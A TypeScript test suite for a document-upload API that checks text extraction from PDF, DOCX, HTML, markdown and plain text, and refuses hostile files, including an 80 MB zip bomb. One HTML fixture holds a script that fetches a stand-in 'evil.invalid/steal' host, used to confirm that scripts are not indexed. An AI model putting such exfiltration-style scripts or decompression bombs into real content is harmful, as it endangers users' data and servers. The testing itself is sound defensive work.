import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { assertConformsToContract } from '../support/contract.js';
import type { DocumentBody, MatchBody } from '../support/documents.js';
import { docxFixture, encryptedPdfFixture, pdfFixture, zipBomb } from '../support/fixtures.js';
import { startTestServer, type TestServer } from '../support/server.js';

/** Uploads over real HTTP as multipart/form-data; no embedding model here (lexical is enough). */
describe('document uploads: formats and hostile files', () => {
  let server: TestServer;
  let apiKey: string;

  before(async () => {
    server = await startTestServer('sqlite', { config: { tiers: { business: { rpm: 10_000 } } } });
    ({ apiKey } = await server.createAccount('business'));
  });
  after(() => server.close());

  async function upload(file: Buffer | string, filename: string, type: string, fields: Record<string, string> = {}) {
    const form = new FormData();
    form.set('user_id', fields.user_id ?? 'u');
    for (const [k, v] of Object.entries(fields)) if (k !== 'user_id') form.set(k, v);
    form.set('file', new Blob([file], { type }), filename);
    const res = await fetch(`${server.url}/z1/rag/documents`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${apiKey}` },
      body: form,
    });
    const body = (await res.json()) as DocumentBody & { code: string; message: string };
    await assertConformsToContract('POST', '/z1/rag/documents', res.status, res.headers, body);
    return { status: res.status, body };
  }
  const search = async (query: string, userId = 'u') =>
    (
      await server.request<{ data: MatchBody[] }>('POST', '/z1/rag/search', {
        apiKey,
        body: { user_id: userId, query },
      })
    ).body.data;

  it('reads a two-page PDF and cites the page its text is on', async () => {
    const res = await upload(
      await pdfFixture(['Apples grow in orchards in the autumn.', 'The orbital period of Kepler-442b is 112 days.']),
      'planets.pdf',
      'application/pdf',
      { user_id: 'pdf', title: 'Planets' },
    );
    assert.equal(res.status, 201, JSON.stringify(res.body));
    assert.equal(res.body.status, 'ready');
    const hit = (await search('Kepler orbital period', 'pdf'))[0];
    assert.ok(hit?.snippet.includes('112 days'), JSON.stringify(hit));
    assert.equal(hit?.title, 'Planets');
    assert.equal(hit?.page, 2);
    assert.equal((await search('apples orchards', 'pdf'))[0]?.page, 1);
  });

  it('reads a DOCX', async () => {
    const res = await upload(
      await docxFixture(['Quarterly report.', 'The warehouse in Tromsø stores 4,200 pallets.']),
      'report.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      { user_id: 'docx' },
    );
    assert.equal(res.status, 201, JSON.stringify(res.body));
    assert.equal(res.body.title, 'report.docx');
    assert.ok((await search('warehouse pallets', 'docx'))[0]?.snippet.includes('4,200 pallets'));
  });

  it('keeps HTML scripts, styles and navigation out of the text', async () => {
    const html = `<!doctype html><html><head><title>Ferry timetable</title>
      <style>.x { content: "STYLESHEETWORD" }</style>
      <script>document.write("SCRIPTWORD"); fetch("http://evil.invalid/steal")</script></head>
      <body><nav><a href="/">NAVWORD home</a> <a href="/about">about</a></nav>
      <article><h1>Ferry timetable</h1><p>The first ferry to Lindholm leaves at 06:40 every weekday.</p>
      <p>On Sundays the first ferry leaves at 08:15, and bicycles travel free of charge.</p></article>
      <footer>FOOTERWORD copyright</footer><script>alert("SCRIPTWORD")</script></body></html>`;
    const res = await upload(html, 'ferry.html', 'text/html', { user_id: 'html' });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    assert.equal(res.body.title, 'Ferry timetable');
    assert.ok((await search('ferry Lindholm', 'html'))[0]?.snippet.includes('06:40'));
    for (const word of ['SCRIPTWORD', 'STYLESHEETWORD', 'NAVWORD', 'FOOTERWORD', 'evil']) {
      assert.deepEqual(await search(word, 'html'), [], `${word} must not be indexed`);
    }
  });

  it('reads markdown and plain text', async () => {
    assert.equal((await upload('# Notes\n\nThe gate code is 5521.', 'notes.md', 'text/markdown')).status, 201);
    assert.equal((await upload('Parking is on level -2.', 'p.txt', 'text/plain')).status, 201);
    assert.ok((await search('gate code'))[0]?.snippet.includes('5521'));
    assert.ok((await search('parking level'))[0]?.snippet.includes('-2'));
  });

  it('refuses other formats, empty, encrypted, corrupt and binary files with 4xx codes, and stays healthy', async () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const cases: Array<[Buffer | string, string, string, number, string]> = [
      [png, 'image.png', 'image/png', 415, 'UNSUPPORTED_MEDIA_TYPE'],
      ['', 'empty.txt', 'text/plain', 400, 'EMPTY_DOCUMENT'],
      ['   \n\n  ', 'blank.md', 'text/markdown', 400, 'EMPTY_DOCUMENT'],
      ['%PDF-1.7\n1 0 obj garbage', 'broken.pdf', 'application/pdf', 400, 'DOCUMENT_UNREADABLE'],
      [await encryptedPdfFixture('locked'), 'locked.pdf', 'application/pdf', 400, 'DOCUMENT_ENCRYPTED'],
      [
        Buffer.from('PK\u0003\u0004 not really a zip'),
        'broken.docx',
        'application/octet-stream',
        400,
        'DOCUMENT_UNREADABLE',
      ],
      [Buffer.from([0x41, 0, 0xff, 0xfe, 0x00, 0x12]), 'binary.txt', 'text/plain', 400, 'DOCUMENT_UNREADABLE'],
      [Buffer.from([0xc3, 0x28, 0x41]), 'latin.txt', 'text/plain', 400, 'DOCUMENT_UNREADABLE'],
      ['<html><body><script>x()</script></body></html>', 'empty.html', 'text/html', 400, 'EMPTY_DOCUMENT'],
    ];
    for (const [file, name, type, status, code] of cases) {
      const res = await upload(file, name, type);
      assert.equal(res.status, status, `${name}: ${JSON.stringify(res.body)}`);
      assert.equal(res.body.code, code, name);
    }
    assert.equal((await server.request('GET', '/z1/health')).status, 200);
  });

  it('refuses a DOCX that would decompress to 80 MB with 413 before inflating it', async () => {
    const bomb = await zipBomb(80 * 1024 * 1024);
    assert.ok(bomb.length < 1024 * 1024);
    const res = await upload(bomb, 'bomb.docx', 'application/octet-stream');
    assert.equal(res.status, 413, JSON.stringify(res.body));
    assert.equal(res.body.code, 'PAYLOAD_TOO_LARGE');
  });

  it('checks the form: user_id required, metadata a JSON object, one file field', async () => {
    const form = new FormData();
    form.set('file', new Blob(['hello']), 'a.txt');
    const res = await fetch(`${server.url}/z1/rag/documents`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${apiKey}` },
      body: form,
    });
    assert.equal(res.status, 400);
    assert.equal(((await res.json()) as { details: { field: string } }).details.field, 'user_id');
    const bad = await upload('hello', 'a.txt', 'text/plain', { metadata: '[1,2]' });
    assert.equal(bad.status, 400);
    assert.equal(bad.body.code, 'INVALID_PARAMETER');
  });
});
